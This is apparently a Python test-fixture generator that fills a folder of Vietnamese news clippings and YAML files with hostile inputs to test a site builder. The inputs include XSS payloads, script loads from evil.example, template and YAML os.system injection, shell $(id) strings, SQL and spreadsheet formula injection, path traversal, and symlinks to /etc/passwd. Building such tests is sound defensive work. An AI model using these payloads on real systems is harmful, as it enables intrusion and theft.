"""Makes a content folder in which everything tries to break out: five hundred clippings, and what lies between them.

The same bytes at every call. A payload that runs sets `top.kbRan`, opens a dialog or asks evil.example for something.
What lies outside the folder, in `beside`, says `SECRET`; links in the folder lead there.
"""

from __future__ import annotations

import os
import random
import stat
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

MANY = 500
SECRET = "BIMATNGOAIKHO"  # noqa: S105 - no password: a word to look for
RUN = "top.kbRan=1;alert(1)"
FAR = "https://evil.example/"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={FAR}x.js></script>",
    f"<script type=module>import '{FAR}m.js'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{FAR}a.png' srcset='{FAR}b.png 2x'>",
    f'"><svg onload="{RUN}">',
    f"'><svg/onload='{RUN}'>",
    f"` onmouseover={RUN} `",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script xlink:href={FAR}s.js></script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<textarea></textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video autoplay onplay={RUN}><source src={FAR}v onerror={RUN}></video>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src={FAR}e>",
    f"<base href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<link rel=stylesheet href={FAR}l.css>",
    f"<style>@import '{FAR}i.css';*{{background:url({FAR}b)}}</style>",
    f"<form action={FAR}><button formaction='javascript:{RUN}'>Gửi</button></form>",
    f"<a href='javascript:{RUN}' ping={FAR}>Bấm</a>",
    f"<a href='JaVa&#x09;Script:{RUN}'>Bấm</a>",
    f"<x is=kb-search contenteditable onblur={RUN} tabindex=1 id=x>",
    f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a><script>{RUN}</script>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"\u2028</script>\u2029<script>{RUN}</script>",
    "<a id=kbRan name=document><form id=location name=cookie><input name=children>",
    f"<div style=\"background:url('{FAR}s')\" class=md-search data-md-component=search hidden>",
)
SYNTAX = (
    "{{ config }}{{ 7 * 191 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{# x #}{% endraw %}{%- macro x() -%}",
    "${7*191} #{7*191} <%= 7*191 %> $(id) `id` !ENV HOME",
    "--8<-- '/etc/passwd'",
    f"[Bấm](javascript:{RUN})",
    f"![x]({FAR}m.png) <{FAR}auto> {FAR}bare",
    f"[x][y]\n\n[y]: javascript:{RUN} 'z'",
    f"{{: onclick='{RUN}' #__search .md-search }}",
    f"*[Cụm]: <script>{RUN}</script>",
    "[TOC] [^1] ==x== ~~y~~ ++z++ :material-account:",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
    "---\ntemplate: /etc/passwd\ntitle: chiếm\n---",
    "---\n? !!python/object/apply:os.system [id]\n---",
    "title: x\ntemplate: khong-co.html\nhide: [navigation]",
    "%YAML 1.2\n--- !!binary\n&a [*a, *a]",
    "\\# \\* \\_ \\\\ \\",
    "<<<<<<< HEAD\n=======\n>>>>>>> x",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd\t\"x\",'y'",
    "'); DROP TABLE articles; --",
    '"}],"x":[{"y":"</script>',
    "]]>&x;<rss><item><link>javascript:alert(1)</link></item></rss>",
    "BEGIN:VCARD\r\nTY  - JOUR\r\nER  -\r\n@article{x, title={y}}",
)
LETTERS = (
    "\u202egnort iàb\u202c",
    "\u2066\u2067\u2068đảo\u2069\u2069\u2069 \u200f\u200e\u061c",
    "Cụm thi đua số 5 Сông аn tỉnh",  # Cyrillic letters among Latin ones
    "Ｃông ａｎ ｔỉｎｈ",
    "𝐂ô𝐧𝐠 𝒂𝒏 𝓽ỉ𝓷𝓱",
    "a" + "\u0301" * 300,
    "Z̸̡̛͎͓͔͚̫̪̤" * 20,
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "\U000e0041\U000e0042\U000e007f 👩‍👩‍👧‍👦🏴\U000e0067\U000e007f",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31mđỏ\x1b[0m\x1b]0;x\x07\x7f\x85",
    "\ufffe\uffff\ufffd\ud7ff\ue000\U0010ffff",
    "ﷺ" * 100,
    "\u0e47" * 200 + "ก็็็็็็็็็็็็็็็็็็็็",
    "İıſKÅ ß ﬃ ǆ",
    "9" * 400,
    "x" * 5_000,
    "tổng kết " * 800,
    "(" * 500 + ")" * 500,
    '"' * 300 + "“" * 300,
    "- " * 400,
)
PAYLOADS = (*MARKUP, *SYNTAX, *LETTERS)

LEAD = "Ngày 14/12, Cụm thi đua số {n} Công an tỉnh tổ chức hội nghị tổng kết phong trào thi đua năm 2021."
PLACES: tuple[Callable[[str, int], str], ...] = (
    lambda x, n: f"Cụm thi đua số {n} {x} tổng kết năm 2021\n\n15/12/2021, 08:00\n\n{LEAD.format(n=n)}\n",
    lambda x, n: f"{x}\n\n15/12/2021, 08:00\n\n{LEAD.format(n=n)} {x} {x}\n\n{x}\n",
    lambda x, n: f"Hội nghị tổng kết\n\n{x} 15/12/2021\n\n{LEAD.format(n=n)}\n\nẢnh: {x}\n\n{x}\n",
    lambda x, n: f"Tổng kết năm 2021\n\nTheo Báo {x}\n\nCụm thi đua số {n} gồm: Phòng {x}, Công an xã {x}.\n",
    lambda x, n: f"Tổng kết năm 2021\n\n{LEAD.format(n=n)}\n\nĐại tá Nguyễn {x}, Giám đốc Công an tỉnh {x}, chủ trì.\n",
    lambda x, n: f"Ký kết giao ước năm 2022\n\n{LEAD.format(n=n)}\n\nÔng Lê {x} phát biểu: “Tôi {x} rất mừng.”\n",
    lambda x, n: f"Khen thưởng\n\n{LEAD.format(n=n)}\n\nTặng Cờ {x} cho Công an xã {x}; phong trào “{x}”.\n\n{x}\n",
)

NAMES = (
    "\"><img src=x onerror=alert('ten')>",
    "'-alert(1)-'",
    "{{ 7*191 }}",
    "<script>alert(1)<",
    "javascript:alert(1)",
    "..\\..\\thoat",
    "%2e%2e%2f%2e%2e%2fthoat",
    "....",
    "~root",
    "-rf",
    "$(id)`id`;id|id&&id",
    "hai\ndòng",
    "tab\tvà\rvề",
    "\x1b[31mđỏ",
    "\u202etxt.gnort",
    "Ｃông ａｎ",
    "сông аn",
    "con",
    "nul.aux",
    "index",
    "404",
    "README",
    "sitemap.xml",
    "a?b=c#d&e",
    "*",
    " đầu và cuối ",
    ".txt.txt.",
    "😀👩‍👩‍👧",
    "e\u0301\u0323",
    "\u200b",
    "d" * 240,
    "ộ" * 80,
    "2021-12-14",
    "__proto__",
    "constructor",
)

CORRECTIONS = (
    "a: &a [x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n",
    "a: &a {<<: *a}\n",
    "title: " + "[" * 20_000 + "]" * 20_000,
    "title: " + "{a: " * 5_000,
    "- " * 10_000 + "x",
    "title: !!python/object/apply:os.system ['touch /tmp/kb-ran']\n",
    "title: !!binary c2NyaXB0\n",
    "title: !!js/function 'x'\n",
    "%TAG ! tag:evil.example,2000:\n--- !x\ntitle: y\n",
    "--- {title: a}\n--- {title: b}\n",
    "url: javascript:alert(1)\n",
    "url: 'https://evil.example/\"><script>alert(1)</script>'\n",
    "formerly: ['bai/2021/../../../../thoat/']\n",
    "formerly: ['/etc/passwd', 'https://evil.example/', 'bai/2021/%2e%2e/x/']\n",
    "formerly: ['bai/2021/\"><script>alert(1)</script>/']\n",
    "__proto__: {x: 1}\nconstructor: y\n",
    "year: 99999999999999999999\n",
    "year: 0x7e5\npublished: 2021-12-14\nkind: yes\n",
    "title: " + "x" * 60_000,
    "title: " + "x" * 70_000,
    "\ufefftitle: 'BOM'\n",
    "title: \x00\x01",
    "withdrawn: '<script>alert(1)</script>{{ 7*191 }}'\n",
    "? [a, b]\n: c\n",
    "? {title: x}\n: c\n",
    "title: 'x'\ntitle: 'y'\n",
    "clusters: [{number: 1, authority: x, evil: y}]\nmembers: {}\n",
    "\t\ttitle: x\n",
    "title: |+\n\n\n  <script>alert(1)</script>\n\n\n",
)


def _quoted(payload: str) -> str:
    text = "".join(c for c in payload if c.isprintable()) or "x"
    return "'" + text[:2_000].replace("'", "''") + "'"


def _correction(payload: str) -> str:
    """Return a correction that is in order and whose every value is the payload."""
    x = _quoted(payload)
    return (
        f"title: {x}\nkicker: {x}\nsource: {x}\nbyline: {x}\nplace: {x}\nwhy: {x}\nmembers: [{x}]\ncaptions: [{x}]\n"
        f"slogans: [{x}]\nclusters: [{{number: 7, authority: {x}}}, {{number: {x}, authority: null}}]\n"
        f"people: [{{name: {x}, rank: {x}, role: {x}}}]\nquotations: [{{text: {x}, speaker: {x}}}]\n"
    )


def make(content: Path, beside: Path) -> int:
    """Fill `content/clippings` and put what must stay outside into `beside`; return how many clippings there are."""
    chance = random.Random(20)  # noqa: S311 - no secrets
    clippings = content / "clippings"
    (clippings / "2021").mkdir(parents=True)
    for number in range(MANY):
        payload, place = PAYLOADS[number % len(PAYLOADS)], PLACES[number // len(PAYLOADS) % len(PLACES)]
        if chance.random() < 0.2:
            payload += " " + chance.choice(PAYLOADS)
        odd = number < len(NAMES)
        name = NAMES[number] if odd else f"bai-{number:03}"
        where = clippings if odd or number % 2 else clippings / "2021"
        text = place(payload, number % 5 + 1) + f"\nBài số {number}.\n"
        _file(where, f"{name}.txt", text.encode("utf-8", "replace"))
        if number >= len(NAMES) and number % 5 == 0:
            turn = number // 5
            said = CORRECTIONS[turn // 2 % len(CORRECTIONS)] if turn % 2 else _correction(payload)
            _file(where, f"{name}.yaml", said.encode("utf-8", "replace"))
    _file(os.fsencode(clippings), b"\xff\xfe\x80.txt", PLACES[0]("byte", 1).encode())
    _file(clippings, "dai.txt", ("Cụm thi đua số 1 " * 12_000 + "\n" + "<script>" * 20_000).encode())
    _traps(clippings, beside)
    return MANY


def _file(where: Path | bytes, name: str | bytes, data: bytes) -> None:
    path = os.path.join(os.fsencode(where), os.fsencode(name))  # noqa: PTH118 - some names are no text
    with suppress(OSError, UnicodeEncodeError), open(path, "xb") as file:  # noqa: PTH123 - a file system may refuse it
        file.write(data)


def _traps(clippings: Path, beside: Path) -> None:
    """Put links, pipes and devices among the clippings, and outside what the links lead to."""
    (beside / "muc").mkdir(parents=True)
    for name in ("ngoai.txt", "muc/trong.txt", "ngoai.md", "ngoai.html"):
        (beside / name).write_text(PLACES[0](SECRET, 1), encoding="utf-8")
    (beside / "ngoai.yaml").write_text(f'title: "{SECRET}"\nwhy: "{SECRET}"\n', encoding="utf-8")
    (clippings / "duoc-sua.txt").write_text(PLACES[0]("được sửa", 2), encoding="utf-8")
    for name, target in {
        "lien-ket.txt": beside / "ngoai.txt",
        "duoc-sua.yaml": beside / "ngoai.yaml",
        "muc-ngoai": beside / "muc",
        "tuong-doi.txt": Path("../../beside/ngoai.txt"),
        "mat-khau.txt": Path("/etc/passwd"),
        "khong.txt": Path("/dev/zero"),
        "vong.txt": Path("vong.txt"),
        "vong-muc": Path(),
        "dut.txt": Path("khong-co"),
    }.items():
        (clippings / name).symlink_to(target)
    for name in ("ong.txt", "ong.yaml", "ong-2.yml"):
        os.mkfifo(clippings / name)
    (clippings / "ong-3.txt").symlink_to("ong.txt")
    with suppress(OSError):
        os.mknod(clippings / "thiet-bi.txt", 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # never ends
    (clippings / "la-thu-muc.txt").mkdir()
    (clippings / "la-thu-muc.yaml").mkdir()
